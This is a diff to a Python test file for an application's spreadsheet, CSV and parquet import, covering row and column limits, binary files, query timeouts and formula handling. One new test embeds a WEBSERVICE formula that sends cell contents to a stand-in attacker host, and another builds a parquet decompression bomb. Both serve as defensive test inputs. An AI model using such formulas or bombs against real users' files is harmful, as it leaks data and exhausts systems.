@@ -138,7 +138,7 @@ def test_a_sheet_of_1048576_rows_is_refused_past_the_kpi_files_limit() -> None:
     # openpyxl read such a sheet through once at load to measure it (10 s) before the limit could stop it
     rows = "<row><c><v>46027</v></c><c><v>1</v></c></row>" * 1_048_576
     with translation.override("en"):
-        assert kpi_message("million.xlsx", sheet(rows)) == "The first sheet has more than 20,001 rows."
+        assert kpi_message("million.xlsx", sheet(rows)) == "More than 20,000 lines."
 
 
 def test_a_workbook_is_read_from_its_first_sheet_without_parsing_the_others() -> None:
@@ -153,6 +153,24 @@ def test_a_workbook_is_read_from_its_first_sheet_without_parsing_the_others() ->
     broken = with_part(out.getvalue(), "xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row>")
     with translation.override("fr"):
         assert read_file("deux.xlsx", broken) == [(date(2026, 1, 5), 3.0)]
+
+
+def test_formulas_in_a_workbook_are_never_run_only_their_saved_value_is_read() -> None:
+    saved = '<c r="B2"><f>1+1</f><v>2</v></c>'  # Excel saved the result: that is read
+    unsaved = '<c r="B3"><f>WEBSERVICE("http://attacker.example/?"&amp;A1)</f></c>'  # no result saved
+    rows = text_row(1, "date", "valeur")
+    rows += '<row r="2"><c r="A2" t="inlineStr"><is><t>05/01/2026</t></is></c>' + saved + "</row>"
+    rows += '<row r="3"><c r="A3" t="inlineStr"><is><t>06/01/2026</t></is></c>' + unsaved + "</row>"
+    with translation.override("en"), pytest.raises(TableProblems) as refused:
+        read_file("formules.xlsx", sheet(rows))
+    assert [(p.line, p.message) for p in refused.value.problems] == [
+        (3, "Expected two columns: a date and a value.")
+    ]
+    with translation.override("fr"):
+        assert read_file("formules.xlsx", sheet(rows.replace(unsaved, '<c r="B3"><v>4</v></c>'))) == [
+            (date(2026, 1, 5), 2.0),
+            (date(2026, 1, 6), 4.0),
+        ]
 
 
 @pytest.mark.parametrize(
@@ -192,12 +210,12 @@ def test_excels_encodings_and_mixed_line_endings_read_alike(tmp_path: Path, data
         assert run_query(path, "select * from data") == expected
 
 
-def test_a_text_file_with_a_nul_byte_is_refused_as_orders_and_quoted_safely_as_measurements() -> None:
-    data = b"client;date;montant\nc1;05/01/2026;1\x00\n"
+def test_a_text_file_with_a_nul_byte_is_one_problem_for_measurements_and_orders() -> None:
     with translation.override("en"):
-        assert orders_message("commandes.csv", data).startswith("This file is not a table")
-        message = kpi_message("mesures.csv", b"date;valeur\n05/01/2026;1\x00\n")
-    assert "\x00" not in message and message.endswith("is not a number.")
+        orders = orders_message("commandes.csv", b"client;date;montant\nc1;05/01/2026;1\x00\n")
+        measurements = kpi_message("mesures.csv", b"date;valeur\n05/01/2026;1\x00\n")
+    assert orders.startswith("This file is not a table (an image, a PDF or another binary file?).")
+    assert measurements == "This file is not a table (an image, a PDF or another binary file?)."
 
 
 @pytest.mark.parametrize("cell", ["x" * 2_000, "9" * 5_000], ids=["2000-characters", "5000-digits"])
@@ -447,3 +465,103 @@ def test_a_prototype_whose_name_keeps_nothing_downloads_under_a_name_of_ours(edi
     first, second = Prototype.objects.order_by("pk").values_list("file_name", flat=True)
     assert first == "prototype.png"
     assert second.startswith("bxxx") and second.endswith("xxx.png") and len(second) <= 200
+
+
+def test_a_workbook_saved_under_a_csv_name_is_read_as_a_workbook(tmp_path: Path) -> None:
+    data = workbook([["date", "valeur"], [date(2026, 1, 5), 3]])
+    path = tmp_path / "mesures.csv"
+    path.write_bytes(data)
+    with translation.override("fr"):
+        assert read_file("mesures.csv", data) == [(date(2026, 1, 5), 3.0)]
+        assert run_query(path, "select * from data") == [(date(2026, 1, 5), 3.0)]
+
+
+def test_an_image_named_csv_is_one_problem_not_one_per_line() -> None:
+    with translation.override("en"):
+        message = kpi_message("mesures.csv", b"\x89PNG\r\n\x1a\n" + bytes(4000))
+    assert message == "This file is not a table (an image, a PDF or another binary file?)."
+
+
+def test_an_image_sent_to_the_backlog_import_says_what_it_is(editor: Client) -> None:
+    content = b"\x89PNG\r\n\x1a\n" + bytes(4000)
+    message = "Ce fichier n’est pas un tableau (une image, un PDF"
+    url, fields, _limit = PAGES["backlog-csv"]
+    response = editor.post(url, {**fields, "file": SimpleUploadedFile("backlog.csv", content)})
+    assert response.status_code == 422
+    assert message in response.content.decode()
+
+
+@pytest.mark.parametrize("reader", ["orders", "kpi-source"])
+def test_an_orders_or_source_sheet_past_its_row_limit_is_refused_with_the_advice_to_save_it_as_csv(
+    tmp_path: Path, reader: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # a sheet of 1,048,576 orders took 85 s to read in the page's request: past 200,000 rows, CSV is asked
+    monkeypatch.setattr("jalon.documents.orders_file.LONG_SHEET_ROWS", 3)
+    monkeypatch.setattr("jalon.strategy.kpis.sources.MAX_SHEET_ROWS", 3)
+    rows: list[list[object]] = [["client", "date", "montant"]]
+    rows += [[f"c{n}", date(2026, 1, 5), 10] for n in range(4)]
+    with translation.override("fr"):
+        message = READERS[reader](tmp_path, "commandes.xlsx", workbook(rows))
+    assert message == (
+        "La première feuille a plus de 3 lignes\u00a0: enregistrez-la au format CSV, que Jalon lit bien "
+        "plus vite, et importez ce fichier."
+    )
+
+
+def test_a_parquet_source_expanding_to_gigabytes_is_stopped_in_words(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import duckdb
+
+    bomb = tmp_path / "bombe.parquet"  # 5,000 rows of the same 100 kB text: a few kB, 500 MB once read
+    statement = (
+        "COPY (SELECT repeat('a', 100000) AS d, i AS v FROM range(5000) t(i)) TO '{}' (FORMAT parquet)"
+    )
+    duckdb.connect().execute(statement.format(bomb))
+    assert bomb.stat().st_size < 100_000
+    monkeypatch.setattr("jalon.strategy.kpis.sources.MAX_SECONDS", 0.05)
+    with translation.override("fr"), pytest.raises(SourceError) as refused:
+        run_query(bomb, "select * from data")
+    assert str(refused.value).startswith(
+        "La lecture du fichier a duré plus de 0,05\u00a0secondes et a été arrêtée"
+    )
+
+
+def test_a_query_joining_the_table_to_itself_without_end_is_stopped_in_words(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "mesures.csv"
+    path.write_text("date;valeur\n" + "".join(f"{1 + n % 28:02d}/01/2026;{n}\n" for n in range(100)))
+    monkeypatch.setattr("jalon.strategy.kpis.sources.MAX_SECONDS", 0.2)
+    query = "select current_date, count(*) from data a, data b, data c, data d, data e"
+    with translation.override("en"), pytest.raises(SourceError) as refused:
+        run_query(path, query)
+    assert str(refused.value) == (
+        "The query ran more than 0.2 seconds and was stopped: filter the table first (WHERE), or join it to "
+        "itself less."
+    )
+
+
+def test_an_orders_file_of_50000_columns_offers_its_first_256_in_a_short_message() -> None:
+    from django.utils.translation import gettext
+
+    from jalon.documents.orders_file import MappingNeeded, describe_error, read_orders
+
+    header = ";".join(f"colonne{n}" + "x" * 60 for n in range(50_000))  # a 17 MB page of choices, before
+    data = f"{header}\n05/01/2026;{';'.join(['1'] * 49_999)}\n".encode()
+    with translation.override("en"), pytest.raises(MappingNeeded) as asked:
+        read_orders(data, filename="commandes.csv")
+    assert len(asked.value.columns) == 256
+    with translation.override("en"):
+        assert len(describe_error(asked.value, gettext)) < 2_200  # 30 names of at most 60 characters
+
+
+def test_a_source_of_1000_columns_names_at_most_30_of_them_in_its_message(tmp_path: Path) -> None:
+    path = tmp_path / "large.csv"
+    header = ";".join(f"colonne{n}" for n in range(1_000))
+    path.write_text(f"{header}\n05/01/2026;{';'.join(['1'] * 999)}\n")
+    with translation.override("en"), pytest.raises(SourceError) as refused:
+        run_query(path, "select nope, 1 from data")
+    message = str(refused.value)
+    assert message.startswith("The table has no column “nope”. Its columns: colonne0, colonne1, ")
+    assert message.endswith("colonne29, ….") and len(message) < 500
